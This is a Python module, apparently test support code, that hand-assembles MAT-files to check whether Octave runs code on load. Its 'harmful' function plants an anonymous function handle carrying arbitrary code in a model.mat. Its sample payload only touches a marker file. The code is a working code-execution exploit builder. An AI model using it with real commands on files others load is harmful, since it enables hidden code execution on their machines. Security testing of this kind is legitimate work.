"""A MAT-file that runs a command as soon as Octave loads it: an anonymous function's text."""

from __future__ import annotations

import struct
from pathlib import Path

_INT8, _INT32, _UINT32, _UINT8, _MATRIX, _UINT16 = 1, 5, 6, 2, 14, 4
_CELL, _STRUCT, _CHAR, _BYTES, _NUMBERS, _FUNCTION = 1, 2, 4, 9, 13, 16


def element(kind: int, data: bytes) -> bytes:
    return struct.pack("<II", kind, len(data)) + data + bytes(-len(data) % 8)


def array(kind: int, count: int, body: bytes, name: bytes = b"") -> bytes:
    head = element(_UINT32, struct.pack("<II", kind, 0))
    head += element(_INT32, struct.pack("<2i", 1, count)) + element(_INT8, name)
    return element(_MATRIX, head + body)


def char(text: str) -> bytes:
    return array(_CHAR, len(text), element(_UINT16, text.encode("utf-16le")))


def cell(*items: bytes) -> bytes:
    return array(_CELL, len(items), b"".join(items))


def structure(**fields: bytes) -> bytes:
    names = b"".join(key.encode().ljust(32, b"\0") for key in fields)
    body = struct.pack("<HHi", _INT32, 4, 32) + element(_INT8, names)
    return array(_STRUCT, 1, body + b"".join(fields.values()))


def handle(code: str) -> bytes:
    """A function handle, without its name."""
    numbers = array(_NUMBERS, 6, element(_UINT32, bytes(24)))
    function = structure(
        function=char("    " + code),
        type=char("anonymous"),
        file=char(""),
        workspace=structure(MCOS=numbers),
        within_file_path=char(""),
    )
    return structure(
        matlabroot=char("/x"), separator=char("/"), sentinel=char("@"), function_handle=function
    )


def subsystem() -> bytes:
    pair = cell(char("x"), structure(a=char("q")))
    inner = structure(MCOS=structure(MCOS=cell(pair, pair)))
    content = struct.pack("<H", 0x0100) + b"IM" + bytes(4) + inner
    return array(_BYTES, len(content), element(_UINT8, content))


def harmful(model: bytes, code: str) -> bytes:
    """A model.mat that runs `code` when Octave loads it."""
    function = array(_FUNCTION, 1, handle(code), b"f")
    start = struct.pack("<Q", len(model) + len(function))
    return model[:116] + start + model[124:] + function + subsystem()


def with_handle(model: bytes) -> bytes:
    """A model.mat with a function handle in a cell in a structure, and no subsystem."""
    function = array(_FUNCTION, 1, handle("1"))
    body = struct.pack("<HHi", _INT32, 4, 32) + element(_INT8, b"a".ljust(32, b"\0"))
    return model + array(_STRUCT, 1, body + cell(char("x"), function), b"s")


def with_object(model: bytes) -> bytes:
    """A model.mat with an object of a class in a folder @thing."""
    body = element(_INT8, b"thing") + struct.pack("<HHi", _INT32, 4, 32) + element(_INT8, b"")
    return model + array(3, 1, body, b"o")


def command(marker: Path) -> str:
    return f"system('touch {marker}');"
